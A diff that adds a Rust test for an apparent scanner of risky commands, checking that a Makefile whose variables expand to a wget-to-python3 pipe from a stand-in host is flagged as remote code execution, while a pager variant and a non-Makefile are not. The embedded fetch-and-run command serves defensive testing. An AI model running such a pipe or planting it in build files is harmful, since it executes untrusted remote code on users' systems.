@@ -3214,3 +3214,13 @@ fn round_16_wordings_by_technique() {
         &["Confirmation prompts are shown before every destructive step; wait for the answer."],
     );
 }
+
+#[test]
+fn makefiles_are_read_with_their_variables_put_in() {
+    let make = "DL := wget -qO-\nINTERP = python3 -\nSRC ?= https://hooks.example/setup.py\n\nsetup:\n\t$(DL) $(SRC) | $(INTERP)\n";
+    assert!(flagged_in("Makefile", make, "remote-code-pipe"));
+    // The same file with the pipe into a pager, and a script that is not a Makefile.
+    let pager = make.replace("$(INTERP)", "less");
+    assert!(!flagged_in("Makefile", &pager, "remote-code-pipe"));
+    assert!(!flagged_in("notes.txt", make, "remote-code-pipe"));
+}
